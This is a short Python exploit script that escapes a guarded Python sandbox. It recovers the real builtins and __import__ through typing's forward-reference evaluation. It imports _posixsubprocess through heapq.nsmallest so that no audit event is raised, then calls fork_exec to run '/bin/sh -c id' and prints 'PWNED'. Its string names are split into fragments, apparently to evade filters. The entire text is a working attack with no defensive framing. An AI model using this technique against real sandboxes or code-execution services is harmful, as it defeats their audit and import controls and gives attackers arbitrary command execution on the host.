# tramp: heapq.nsmallest(key=real __import__) imports _posixsubprocess from heapq's frame; fork_exec has no audit event
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

import heapq
o = imp("o" + "s")
heapq.nsmallest(1, ["_posix" + "subprocess"], key=imp)
ps = imp("_posix" + "subprocess")  # now cached: no event
r, w = o.pipe()
er, ew = o.pipe()
argv = [b"/bin/sh", b"-c", b"id"]
pid = ps.fork_exec(argv, [argv[0]], True, (ew,), None, None, -1, -1, -1, w, -1, -1,
                   er, ew, True, False, -1, None, None, None, -1, None, False)
o.close(w)
o.close(ew)
out = o.read(r, 300)
if out:
    print(M, pid, out)
